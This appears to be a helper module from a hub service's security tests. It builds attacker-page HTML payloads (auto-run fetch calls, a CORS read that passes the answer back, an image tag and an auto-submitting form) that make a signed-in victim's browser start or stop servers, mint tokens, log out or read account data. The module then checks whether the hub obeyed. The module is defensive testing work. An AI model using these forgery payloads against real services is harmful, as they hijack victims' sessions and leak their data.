"""Requests that a page of the attacker's makes a victim's browser send, and whether the hub did what they ask for."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from tests.attack.attacker import Insider
from tests.attack.elsewhere import Elsewhere
from tests.integration.verbs import wait_until
from tests.signin.researcher import Researcher

REQUESTS = {
    # Without a body, or with one that a form could send, a browser does not ask the hub first.
    "fetch": """<script>fetch("{url}", {{method: "{method}", mode: "no-cors", credentials: "include"}})
        .finally(() => fetch("/?done=1"))</script>""",
    # Whether the page may send it, and read the answer, is the hub's to say.
    "cors": """<script>fetch("{url}", {{method: "{method}", credentials: "include"}})
        .then((answer) => answer.text()).catch(() => "").then((text) => fetch("/?done=" + encodeURIComponent(text)))
        </script>""",
    "picture": """<img src="{url}" onload="fetch('/?done=1')" onerror="fetch('/?done=1')">""",
    "form": """<form method="post" action="{url}"></form><script>document.forms[0].submit()</script>""",
}


@dataclass(frozen=True)
class Forgery:
    """A request.

    Attributes:
        way: A key of REQUESTS.
        method: Its method.
        path: Where to; {user} is the victim's path in the hub's API.
    """

    way: str
    method: str
    path: str

    @property
    def starts(self) -> bool:
        """Whether it is to start a server."""
        return self.method == "POST" and any(part in self.path for part in ("/server", "/spawn"))

    def page(self, victim: Insider) -> str:
        """Return the page that sends it as soon as it is opened."""
        url = f"{victim.url}{self.path.format(user=victim.api_path)}"
        return REQUESTS[self.way].format(url=url, method=self.method)


START = Forgery("fetch", "POST", "/hub/api{user}/server")
START_BY_FORM = Forgery("form", "POST", "/hub/spawn")
STOP = Forgery("cors", "DELETE", "/hub/api{user}/server")
TOKEN = Forgery("fetch", "POST", "/hub/api{user}/tokens")
LOG_OUT = Forgery("picture", "GET", "/hub/logout")
READ = Forgery("cors", "GET", "/hub/api{user}")


def open_page(browser: Researcher, elsewhere: Elsewhere, place: str, forgery: Forgery, victim: Insider) -> str:
    """Let the victim's browser open the page at a place of the attacker's; return what the page could read."""
    elsewhere.page = forgery.page(victim)
    elsewhere.asked.clear()
    if forgery.way == "form":
        with browser.page.expect_response(lambda answer: urlsplit(answer.url).path == forgery.path):
            browser.page.goto(place, wait_until="commit")
        return ""
    browser.page.goto(place)
    wait_until("the request is answered", lambda: elsewhere.told("done"))
    return elsewhere.told("done")[0]


def succeeds(browser: Researcher, elsewhere: Elsewhere, place: str, forgery: Forgery, victim: Insider) -> bool:
    """Let the victim's browser open the page; return whether the hub did what the request asks for."""
    if forgery.starts and victim.is_running():
        victim.stop()
    before = _state(forgery, victim)
    read = open_page(browser, elsewhere, place, forgery, victim)
    if forgery is READ:
        return victim.user_name in read
    changed = _state(forgery, victim) != before
    if changed and forgery.starts:
        wait_until("the server runs", victim.is_running)
    return changed


def _state(forgery: Forgery, victim: Insider) -> Any:
    """Return what the request would change."""
    if forgery is LOG_OUT:
        return sessions(victim)
    if forgery is TOKEN:
        return tokens(victim)
    return has_server(victim)


def has_server(who: Insider) -> bool:
    """Return whether somebody has a server, as far as it may be with its start; one that ends is waited for."""

    def servers() -> list[dict[str, Any]]:
        return list(who.api("GET", who.api_path).json()["servers"].values())

    wait_until("no server is about to end", lambda: all(server["pending"] != "stop" for server in servers()))
    return bool(servers())


def sessions(of: Insider) -> set[str]:
    """Return the tokens by which somebody's browsers are signed in at their server: they end with a session."""
    listed = of.api("GET", f"{of.api_path}/tokens").json()["api_tokens"]
    return {item["id"] for item in listed if item["session_id"]}


def tokens(of: Insider) -> set[str]:
    """Return somebody's tokens that were made without a word about what they are for, as attackers make them."""
    listed = of.api("GET", f"{of.api_path}/tokens").json()["api_tokens"]
    return {item["id"] for item in listed if item["note"] == "Requested via api"}
